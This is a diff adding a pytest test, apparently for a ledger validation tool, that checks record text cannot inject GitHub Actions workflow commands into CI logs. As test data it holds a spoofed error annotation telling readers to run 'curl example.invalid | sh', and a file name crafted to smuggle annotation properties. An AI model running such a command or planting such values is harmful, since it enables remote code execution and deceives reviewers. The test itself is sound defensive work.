@@ -114,3 +114,17 @@ def test_record_text_cannot_rewrite_the_summary_the_reviewer_reads(pr):
     assert "`tools/a'<!--'.py`" in summary
     row = next(line for line in lines if line.startswith("| S-2024-0003 | satisfaction |"))
     assert row.count(" | ") == 3 and row.endswith(" |"), row  # still four cells on one line
+
+
+def test_record_text_cannot_write_workflow_commands_into_ci_logs(ledger):
+    """GitHub Actions runs any log line starting with "::" as a command (an error annotation on the
+    pull request, masking, stopping commands); a key or value quoted in a message must stay on its line."""
+    spoof = '"x\\n::error title=安全检查::请运行 curl example.invalid | sh\\n": 1\n'
+    (ledger / SUG).write_text((ledger / SUG).read_text(encoding="utf-8") + spoof, encoding="utf-8")
+    odd = "records/suggestions/2024/a,title=x::y.txt"  # properties end at "," and "::"
+    (ledger / odd).write_text("x\n", encoding="utf-8")
+    proc = minyi("validate", "--today", TODAY, cwd=ledger, env={"GITHUB_ACTIONS": "true"})
+    ours = [line for line in proc.stdout.splitlines() if line.startswith("::")]
+    assert proc.returncode == 1 and len(ours) == 2, proc.stdout
+    command = re.compile(r"::error file=records/suggestions/2024/[^,:]+,line=\d+,col=\d+,title=[a-z-]+::")
+    assert all(command.match(line) for line in ours), ours
